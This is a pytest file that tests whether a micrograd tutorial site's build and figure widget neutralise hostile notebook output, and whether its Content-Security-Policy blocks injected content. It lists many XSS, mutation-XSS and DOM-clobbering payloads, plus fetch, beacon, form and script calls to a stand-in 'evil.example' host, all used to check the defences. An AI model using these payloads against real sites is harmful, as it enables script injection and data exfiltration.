"""Output that looks like markup stays text: in a page that the build made, and in one where the reader ran it.

And what would be left if it did not: the policy in each page, by which the browser refuses what the build did not put
there.
"""

import re
import shutil
from html.parser import HTMLParser

import pytest
from conftest import GOOD, NOTEBOOK, built, open_whole

TEXTS = [
    "</script><script>window.ran = true</script>",
    "--> <img src=x onerror='window.ran = true'> <!--",
    "</pre></div></article><h1>mine</h1>",
    '"><svg onload="window.ran = true">',
    "{{ config }} {% raw %} {{ 7 * 7 }} {#- #}",
    "```\n# not a heading\n```",
    "**bold** `code` [link](javascript:ran) ![](x.png) <https://example.org>",
    "!!! danger\n    in a box",
    "$x$ $$x$$ \\(x\\) \\[x\\]",
    "<!-- graph: home -->",
    "::: micrograd.engine.Value",
    "&lt;b&gt; &amp; &#60; &nbsp;",
    "\u202etfel-ot-thgir\u202c \U0001f469\u200d\U0001f52c e\u0301 \u2028 end",
    "<copy-button></copy-button><details open><summary>x</summary>",
    "\\u003c/script> \\x3cb> %3Cb%3E",
    "x" * 10_000,
]
PAGE = f"""{GOOD}
# %%
from micrograd.engine import Value
from micrograd.graph import draw_dot

texts = {TEXTS!r}

# %%
print("\\n=====\\n".join(texts))


# %%
class Hostile:
    def __repr__(self):
        return "\\n=====\\n".join(texts)


Hostile()

# %%
draw_dot(Value(1.0, label="\\n".join(texts[:-1])).tanh())

# %% tags=["raises-exception"]
raise ValueError("\\n=====\\n".join(texts))

# %% alt="A plot whose title is \\"hostile\\" & <b>bold</b>"
import matplotlib.pyplot as plt

plt.plot([1, 2])
plt.title(texts[0] + texts[1] + "&lt; <b onclick='x'>")
plt.show()
"""


class Reader(HTMLParser):
    """The elements of a page's article, and the text of what its cells put out."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.printed, self.text = [], set(), [], ""
        self.inside = False
        self.feed(html[html.index("<article") : html.rindex("</article>")])
        self.close()

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        self.tags.append(tag)
        self.attributes |= set(attributes)
        if "output__text" in attributes.get("class", ""):
            self.inside = True
            self.printed.append("")

    def handle_endtag(self, tag):
        if tag == "pre":
            self.inside = False

    def handle_data(self, data):
        self.text += data
        if self.inside:
            self.printed[-1] += data


@pytest.fixture(scope="module")
def hostile_page(built_small, tmp_path_factory):
    root = shutil.copytree(built_small, tmp_path_factory.mktemp("hostile") / "project", symlinks=True)
    (root / NOTEBOOK).write_text(PAGE, encoding="utf-8")
    built(root / "site", root)
    return (root / "site" / "tutorial" / "derivatives" / "index.html").read_text(encoding="utf-8")


def test_what_a_cell_prints_is_text_in_the_built_page(hostile_page):
    article = Reader(hostile_page)
    together = "\n=====\n".join(TEXTS)
    shown = together.replace("\u2028", "\n")  # IPython breaks a repr's lines there
    assert article.printed == ["2", together, shown, f"ValueError: {together}"]
    assert not {"script", "img", "iframe"} & set(article.tags)
    assert article.tags.count("h1") == 1
    assert article.tags.count("h2") == 1
    assert article.tags.count("strong") == 0
    assert "open" not in article.attributes
    assert not [name for name in article.attributes if name.startswith("on")]


def test_a_label_and_a_plots_title_are_text_in_the_built_page(hostile_page):
    article = Reader(hostile_page)
    assert article.tags.count("svg") >= 2
    for text in TEXTS[:4]:
        assert article.text.count(text) >= 5, "three outputs, and the drawing"
    assert TEXTS[0] + TEXTS[1] + "&lt; <b onclick='x'>" in article.text


# In the reader's browser ----------------------------------------------------------------------------------------------

ATTACKS = {
    "script": "<script>window.ran = true</script>",
    "script in svg": "<svg><script>window.ran = true</script></svg>",
    "onerror": "<img src=x onerror='window.ran = true'>",
    "onload of svg": "<svg onload='window.ran = true'><circle r='1'/></svg>",
    "handlers on a drawing": "<svg><g onclick='ran=1' onfocus='ran=1' tabindex='0' onmouseover='ran=1'/></svg>",
    "javascript link": "<a href='javascript:window.ran = true' id='graph-x'>x</a>",
    "javascript link in svg": "<svg><a xlink:href='javascript:ran=1'><text>x</text></a></svg>",
    "use of data": "<svg><use href='data:image/svg+xml,<svg id=x onload=ran=1></svg>#x'/></svg>",
    "use of a page": "<svg><use xlink:href='/evil.svg#x'/><use href=' #x'/><use href='//evil.example/#x'/></svg>",
    "foreignObject": "<svg><foreignObject><iframe src='javascript:parent.ran=1'></iframe></foreignObject></svg>",
    "style element": "<style>* { display: none }</style><svg><style>* { display: none }</style></svg>",
    "iframe": "<iframe src='https://evil.example'></iframe><object data='x'></object><embed src='x'>",
    "srcdoc": "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "form": "<form action='https://evil.example'><input name='x'><button>Run</button></form>",
    "animated link": "<svg><a><animate attributeName='href' values='javascript:ran=1'/><text>x</text></a></svg>",
    "set": "<svg><set attributeName='onload' to='ran=1'/><animateTransform onbegin='ran=1'/></svg>",
    "handler on a table": "<table onclick='ran=1'><tr onfocus='ran=1'><td ONCLICK='ran=1' onload=ran=1>x</table>",
    "clobbering": "<div id='body'></div><div id='__config'></div><g id='__search'></g><svg name='body' id='forms'/>",
    "own elements": "<cell-bar></cell-bar><copy-button></copy-button><evil-element></evil-element>",
    "own parts": "<div data-md-component='search' data-md-toggle='drawer'></div><svg><g data-runs='1' is='x'/></svg>",
    "overlay": "<div style='position:fixed; inset:0'>x</div><li style='p\\6fsition:fixed'>x</li>",
    "background": "<div style='background:url(https://evil.example/x.png)'>x</div><svg fill='url(//evil.example/x)'/>",
    "image set": "<td style='background:image-set(\"https://evil.example/x.png\" 1x)'>x</td>",
    "meta and base": "<meta http-equiv='refresh' content='0;url=https://evil.example'><base href='https://evil.example'>",
    "link": "<link rel='stylesheet' href='https://evil.example/x.css'>",
    "media": "<video src='https://evil.example/x' autoplay></video><audio src='x'></audio><picture><source></picture>",
    "image in svg": "<svg><image href='https://evil.example/x.png'/><feImage href='https://evil.example/x'/></svg>",
    "mutation": "<svg></p><style><a id='</style><img src=1 onerror=ran=1>'></style></svg>",
    "mathml mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=r&gt;'>",
    "template": "<template><script>ran=1</script></template><noscript><p title='</noscript><img src=x onerror=ran=1>'>",
    "comment": "<!--><script>ran=1</script>--><![CDATA[<script>ran=1</script>]]>",
    "huge": "<figure><svg>" + "<g>" * 2_000 + "x" * 1_000_000,
    "many attributes": "<svg><g" + " x='1'" * 20_000 + "/><text>" + "x" * 1_000_000,
    "never closed": "<svg>" + "<g x='<!--<" * 20_000,
    "other names": "<svg><ONCLICK/><g constructor='1' __proto__='1' xmlns:x='1' x:onload='ran=1' =onload='x'/></svg>",
}
LEFT = "{ elements: [...box.querySelectorAll('*')].map(e => e.localName), attributes: [...box.querySelectorAll('*')]"
LEFT += ".flatMap(e => [...e.attributes].map(a => [a.name, a.value])), text: box.textContent.length }"
PUT = f"""async ([site, html]) => {{
    const {{ figure }} = await import(site + "javascripts/widgets/figure.js");
    const box = document.createElement("div");
    box.append(figure(html));
    document.querySelector("article").append(box);
    for (const event of ["click", "focus", "mouseover", "load", "error"])
        box.querySelectorAll("*").forEach(element => element.dispatchEvent(new Event(event)));
    await new Promise(resolve => setTimeout(resolve, 50));
    return {LEFT};
}}"""
FORBIDDEN = {
    *("a", "audio", "base", "button", "cell-bar", "copy-button", "embed", "evil-element", "feimage", "foreignobject"),
    *("form", "iframe", "image", "img", "input", "link", "meta", "object", "script", "set", "source", "style", "video"),
    *("animate", "animatetransform", "template", "noscript"),
}


@pytest.fixture(scope="module")
def opened(browser, site_url):
    """A page, what it asked of the network, and what its policy refused."""
    page = browser.new_page()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    open_whole(page, site_url + "tutorial/derivatives/")
    page.evaluate(
        """() => {
            window.refused = [];
            document.addEventListener("securitypolicyviolation", event =>
                window.refused.push(`${event.effectiveDirective} ${event.blockedURI}`));
        }"""
    )
    yield page, asked
    page.close()


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_live_output_cannot_inject(opened, site_url, attack):
    page, asked = opened
    asked.clear()  # another test may have asked for something that the policy refused
    left = page.evaluate(PUT, [site_url, ATTACKS[attack]])
    assert FORBIDDEN & {name.lower() for name in left["elements"]} == set()
    for name, value in left["attributes"]:
        assert not name.startswith("on"), (name, value)
        assert name not in ("src", "srcset", "srcdoc", "action", "formaction", "name"), (name, value)
        assert not name.endswith("href") or value.startswith("#"), (name, value)
        assert name != "id" or re.match(r"graph-|live\d|playground-graph|plot-", value), (name, value)
        assert name != "style" or not re.search(r"position|url|\\", value), (name, value)
    assert left["text"] >= (1_000_000 if attack in ("huge", "many attributes") else 0)
    assert page.evaluate("window.ran === undefined && document.body.localName === 'body'")
    assert page.evaluate("window.refused.splice(0)") == [], "nothing came so far that the policy had to refuse it"
    assert [url for url in asked if not url.startswith(site_url)] == []


FIGURES = re.compile(r'<figure class="(?:expression-graph|plot)".*?</figure>', re.DOTALL)
SAME = """async ([site, html]) => {
    const { figure } = await import(site + "javascripts/widgets/figure.js");
    const before = document.createElement("template");
    before.innerHTML = html;
    const after = figure(html);
    const parts = root => [...root.querySelectorAll("*")].map(element =>
        element.namespaceURI + " " + element.localName + " " + [...element.attributes]
            .map(a => [a.namespaceURI, a.name, a.value].join(" ")).filter(a => !a.includes("xmlns")).sort().join(" "));
    const [was, is] = [parts(before.content), parts(after)];
    const other = was.findIndex((part, place) => part !== is[place])
    return { count: was.length, same: was.length === is.length && other < 0, was: was[other], is: is[other],
             text: before.content.textContent === after.textContent };
}"""


def test_every_figure_of_the_site_passes_unchanged(opened, site, site_url):
    page, _ = opened
    figures = {}
    for path in sorted(site.rglob("index.html")):
        for figure in FIGURES.findall(path.read_text(encoding="utf-8")):
            figures.setdefault(figure, path.parent.name)
    assert len(figures) >= 30
    assert {"derivatives", "moons", "expression_graph"} <= set(figures.values())
    for figure, name in figures.items():
        seen = page.evaluate(SAME, [site_url, figure])
        assert seen["count"] > 10
        assert seen["same"], (name, seen["was"], seen["is"])
        assert seen["text"], name


# The policy -----------------------------------------------------------------------------------------------------------

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')


def test_every_page_has_one_policy_before_whatever_it_is_about(site):
    pages = sorted(site.rglob("*.html"))
    assert len(pages) >= 25
    for path in pages:
        text = path.read_text(encoding="utf-8")
        (policy,) = POLICY.findall(text)
        before = text[: text.index("<meta http-equiv=")].lower()
        assert not re.search(r"<(script|link|style|img|body)", before), path
        rules = dict(rule.split(" ", 1) for rule in policy.split("; "))
        assert rules["default-src"] == "'none'"
        scripts = rules["script-src"].split()
        assert set(scripts[:2]) == {"'self'", "'wasm-unsafe-eval'"}
        assert all(re.fullmatch(r"'sha256-[\w+/]{43}='", source) for source in scripts[2:]), path
        assert rules["base-uri"] == rules["form-action"] == "'none'"


REFUSED = {
    "inline script": (
        "const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s)",
        "script-src-elem inline",
    ),
    "inline handler": (
        "const p = document.createElement('p'); p.setAttribute('onclick', 'window.ran = true'); p.click()",
        "script-src-attr inline",
    ),
    "handler of a broken image": (
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"gone.png\" onerror=\"window.ran = true\">')",
        "script-src-attr inline",
    ),
    "javascript link": (
        "const a = document.createElement('a'); a.href = 'javascript:window.ran = true'; document.body.append(a); "
        "a.click()",
        "script-src-elem inline",
    ),
    "eval": ("setTimeout('window.ran = true')", "script-src eval"),
    "another host's script": (
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "script-src-elem https://evil.example/x.js",
    ),
    "another host's fetch": (
        "fetch('https://evil.example/x').catch(() => {})",
        "connect-src https://evil.example/x",
    ),
    "another package host's fetch": (
        "fetch('https://cdn.jsdelivr.net/npm/evil').catch(() => {})",
        "connect-src https://cdn.jsdelivr.net/npm/evil",
    ),
    "another host's image": ("new Image().src = 'https://evil.example/x.png'", "img-src https://evil.example/x.png"),
    "a beacon": ("navigator.sendBeacon('https://evil.example/b')", "connect-src https://evil.example/b"),
    "another host's frame": (
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
        "frame-src https://evil.example",
    ),
    "another host's style": (
        "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://evil.example/x.css>')",
        "style-src-elem https://evil.example/x.css",
    ),
    "a style element": (
        "const s = document.createElement('style'); s.textContent = '* { color: red }'; document.body.append(s)",
        "style-src-elem inline",
    ),
    "another base": (
        "const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.prepend(b)",
        "base-uri https://evil.example",
    ),
    "a form": (
        "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"></form>'); "
        "document.body.lastElementChild.submit()",
        "form-action https://evil.example/",
    ),
    "a worker made of text": (
        "try { new Worker(URL.createObjectURL(new Blob(['1']))).onerror = e => e.preventDefault() } catch {}",
        "worker-src blob",
    ),
}


@pytest.mark.parametrize("attack", REFUSED)
def test_the_browser_refuses_what_the_build_did_not_put_there(opened, attack):
    page, _ = opened
    code, refused = REFUSED[attack]
    page.evaluate("window.refused.length = 0")
    page.evaluate(f"() => {{ {code} }}")
    page.wait_for_function("words => window.refused.some(each => each.startsWith(words))", arg=refused, timeout=5000)
    assert page.evaluate("window.ran === undefined")
    assert page.evaluate("location.protocol") == "http:"
